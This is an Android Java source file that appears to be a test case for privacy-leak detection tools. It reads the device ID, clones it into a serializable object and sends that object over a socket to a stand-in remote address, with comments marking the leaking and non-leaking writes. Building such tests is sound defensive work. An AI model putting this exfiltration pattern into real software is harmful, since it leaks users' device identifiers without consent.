package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.net.Socket;

/** Whole objects: copied, then written out. */
public class Copied extends Activity {
    static class Info implements Serializable, Cloneable {
        String id;
        int version = 1;

        @Override
        public Info clone() {
            try {
                return (Info) super.clone();
            } catch (CloneNotSupportedException e) {
                throw new AssertionError(e);
            }
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        Info info = new Info();
        Info before = info.clone();
        info.id = phone.getDeviceId();
        Info after = info.clone();
        try (Socket socket = new Socket("203.0.113.1", 99)) {
            ObjectOutputStream out = new ObjectOutputStream(socket.getOutputStream());
            out.writeObject(after); // leak
            out.writeObject(before); // no leak
        } catch (Exception ignored) {
        }
    }
}
